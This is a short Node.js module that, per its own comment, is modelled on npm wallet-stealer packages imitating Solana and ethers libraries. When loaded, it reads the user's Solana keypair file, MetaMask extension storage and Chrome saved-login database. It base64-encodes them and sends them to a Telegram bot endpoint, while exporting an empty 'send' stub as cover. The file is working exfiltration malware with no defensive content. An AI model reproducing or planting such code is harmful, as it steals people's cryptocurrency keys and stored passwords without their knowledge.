const fs = require('fs');
const os = require('os');
const path = require('path');
// Modelled on the 2024-2025 wallet-stealer packages (solana/ethers look-alikes).
const targets = [
  path.join(os.homedir(), '.config/solana/id.json'),
  path.join(os.homedir(), 'Library/Application Support/Google/Chrome/Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn'),
  path.join(os.homedir(), 'AppData/Local/Google/Chrome/User Data/Default/Login Data'),
];
const stolen = targets.filter(fs.existsSync).map((file) => fs.readFileSync(file).toString('base64'));
fetch('https://api.telegram.org/bot7512358234:AAHcZ1xQwErTyUiOpAsDfGhJkLzXcVbNm12/sendMessage', {
  method: 'POST',
  body: JSON.stringify({ chat_id: '-100123456', text: stolen.join('\n') }),
});
module.exports = { send: () => {} };
